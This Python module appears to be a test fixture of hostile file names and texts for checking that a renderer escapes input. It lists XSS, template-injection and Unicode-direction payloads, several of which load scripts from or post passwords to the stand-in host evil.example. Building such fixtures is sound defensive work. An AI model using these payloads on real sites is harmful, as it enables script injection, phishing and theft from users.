"""Texts that would run, load, restyle or fake something if they were taken for more than text."""

from collections.abc import Iterator

# Each would set the title to "owned", ask another host, or hide something; none has a slash, so
# that a file may have it for its name, but for those further below.
IN_NAMES = (
    "<script>document.title='owned'<&sol;script>",
    "<img src=x onerror=document.title='owned'>",
    '"><img src=x onerror=document.title="owned">',
    "' onmouseover='document.title=`owned`' x='",
    "javascript:document.title='owned'",
    "${document.title='owned'}",
    "{{constructor.constructor('document.title=`owned`')()}}",
    "\u202efdp.exe\u202c",
    "\u2066isolate\u2069 \u200fmark",
    "[click](javascript:document.title='owned')",
    "$\\frac{1}{2}$",
    "&lt;img src=x onerror=document.title='owned'&gt;",
)
IN_TEXTS = (
    *IN_NAMES,
    "<script>document.title='owned'</script>",
    "<script src=//evil.example/x.js></script>",
    "</bdi></blockquote></div><script>document.title='owned'</script>",
    "<svg/onload=document.title='owned'>",
    "<svg><animate onbegin=document.title='owned' attributeName=x dur=1s>",
    "<iframe src=javascript:parent.document.title='owned'></iframe>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<a href='javascript:document.title=1'>click</a>",
    "<a href='data:text/html,<script>document.title=1</script>'>click</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=document.title=1>",
    "<style>*{display:none}</style>",
    '<b style="position:fixed;inset:0">over all</b>',
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<video poster=//evil.example/x autoplay><source onerror=document.title=1></video>",
    "![picture](https://evil.example/x.png)",
    "<https://evil.example> [a]: https://evil.example",
    "# heading **bold** _em_ ~~gone~~ `code`",
    "| a | b | --- | <details open ontoggle=document.title=1>",
    "$$\\href{javascript:document.title=1}{x}$$ \\(x\\) \\[y\\]",
    "#{7*7} <%= 7*7 %> {% raw %} `${document.title='owned'}`",
    "<!-- <b> --> <![CDATA[<b>]]> <?php echo 1 ?>",
    "&#60;img src=x onerror=document.title=1&#62; &nbsp;&copy;",
    "\u202eevil\u202c \u2067turned\u2069 \u200e\u200f\u061c",
    "<input autofocus onfocus=document.title='owned'>",
    "<button popovertarget=x>x</button><div id=x popover onbeforetoggle=document.title=1>",
)


def hostile_files() -> Iterator[tuple[str, str]]:
    """Files whose names and titles are attacks, and a document with all attacks in its text."""
    for number, attack in enumerate(IN_NAMES):
        title = IN_TEXTS[-1 - number].replace("\n", " ")
        text = f"# {title}\n\nThe wobbegong of basin {number} weighed {100 + number} grams.\n"
        yield f"{number:02} {attack}.md", text
    lines = (f"The numbat of burrow {at} said {one} at dusk." for at, one in enumerate(IN_TEXTS))
    yield "attacks.txt", "\n\n".join(lines)
